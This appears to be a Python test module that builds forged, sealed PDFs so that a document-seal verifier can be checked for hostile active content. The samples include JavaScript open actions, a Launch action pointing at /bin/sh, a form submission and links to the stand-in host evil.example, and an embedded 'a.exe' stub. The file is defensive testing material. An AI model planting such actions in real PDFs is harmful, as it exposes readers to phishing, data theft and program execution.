"""What a viewer would run, fetch or switch: put behind a seal, and into a file that is then sealed by whomever."""

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.writer import BasePdfFileWriter

from issuer.paper.sealing import seal_pdf
from tests.vectors.forged.kinds import Original, add, differs
from tests.vectors.forged.seal_kinds import thief_seal
from tests.vectors.forged.tools import (
    Change,
    annotated,
    dictionary,
    on_page,
    on_root,
    page_of,
    redrawn,
    updated,
)
from tests.verifier.workshop import NOW

_SCRIPT = dictionary(S="/JavaScript", JS="app.alert('Onaylandi')")
_LINK = {"Subtype": "/Link", "Rect": [0, 0, 842, 595], "Border": [0, 0, 0]}


def _script_by_name(writer: BasePdfFileWriter) -> None:
    writer.root["/Names"][generic.pdf_name("/JavaScript")] = dictionary(
        Names=[generic.pdf_string("a"), writer.add_object(_SCRIPT)]
    )
    writer.update_container(writer.root["/Names"])
    writer.update_root()


def _layers(writer: BasePdfFileWriter) -> None:
    """The page's content becomes a layer that is on; a viewer can switch it off."""
    layer = writer.add_object(dictionary(Type="/OCG", Name="Katman"))
    on_root(OCProperties=dictionary(OCGs=[layer], D=dictionary(ON=[layer])))(writer)
    page = page_of(writer)
    page["/Resources"][generic.pdf_name("/Properties")] = dictionary(Katman=layer)
    writer.update_container(page["/Resources"])


def _xfa(writer: BasePdfFileWriter) -> None:
    form = writer.add_object(
        generic.StreamObject(stream_data=b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )
    on_root(AcroForm=dictionary(Fields=[], XFA=form))(writer)


def _attached_note(writer: BasePdfFileWriter) -> None:
    file = writer.add_object(generic.StreamObject(dictionary(Type="/EmbeddedFile"), stream_data=b"MZ"))
    note = dictionary(Type="/Filespec", F="a.exe", UF="a.exe", EF=dictionary(F=file))
    annotated(Subtype="/FileAttachment", Rect=[0, 0, 0, 0], FS=note)(writer)


ACTIVE: dict[str, tuple[str, Change]] = {
    "script": ("a script under a name", _script_by_name),
    "open-action": ("a script for when it is opened", on_root(OpenAction=_SCRIPT)),
    "open-address": ("an address for when it is opened", on_root(
        OpenAction=dictionary(S="/URI", URI="http://evil.example/"))),
    "additional-action": ("a script for when it is printed", on_root(AA=dictionary(WP=_SCRIPT))),
    "page-action": ("a script for when the page is seen", on_page(AA=dictionary(O=_SCRIPT))),
    "launch": ("a link that starts a program", annotated(**_LINK, A=dictionary(S="/Launch", F="/bin/sh"))),
    "link": ("a link to a false checker", annotated(**_LINK, A=dictionary(S="/URI", URI="http://evil.example/v/"))),
    "submit": ("a link that sends a form", annotated(
        **_LINK, A=dictionary(S="/SubmitForm", F="http://evil.example/"))),
    "other-file": ("a link into another file", annotated(**_LINK, A=dictionary(S="/GoToR", F="x.pdf", D=[0, "/Fit"]))),
    "xfa": ("a form in XFA", _xfa),
    "layers": ("the page as a layer that can be switched off", _layers),
    "rich-media": ("a film over the page", annotated(
        Subtype="/RichMedia", Rect=[0, 0, 842, 595], RichMediaContent=dictionary())),
    "attached-note": ("a program in a note", _attached_note),
}  # fmt: skip


def _added(change: Change, name: str) -> None:
    what, _ = ACTIVE[name]
    content = "pdf.content"
    # A form without the seal's field in it leaves none.
    seal = "pdf.unsealed" if name == "xfa" else "pdf.changed_after_seal"
    add(
        f"after.{name}",
        f"Behind the seal, {what}.",
        lambda o: updated(o.sealed, change),
        differs(content, seal),
    )

    def made(o: Original) -> bytes:
        return redrawn(o.drawn, change)

    # Where a form or notes were before, the seal's update would not be the only one to bring them.
    wrong = ("pdf.seal_adds",) if name in _NOTES else ()
    add(f"thief.{name}", f"Sealed by a stranger, with {what}.",
        lambda o: seal_pdf(made(o), thief_seal(o), NOW), differs(content, *(wrong or ("pdf.seal_foreign",))),
        again=name != "script")  # fmt: skip
    add(f"chamber.{name}", f"Sealed by another chamber, with {what}.",
        lambda o: seal_pdf(made(o), o.house.mmo_seal, NOW), differs(content, *(wrong or ("pdf.seal_foreign",))),
        again=name != "script")  # fmt: skip
    add(f"insider.{name}", f"Rightly sealed, with {what}.",
        lambda o: seal_pdf(made(o), o.house.emo_seal, NOW), differs(content, *wrong))  # fmt: skip


_NOTES = ("xfa", "launch", "link", "submit", "other-file", "rich-media", "attached-note")
for _name, (_what, _change) in ACTIVE.items():
    _added(_change, _name)
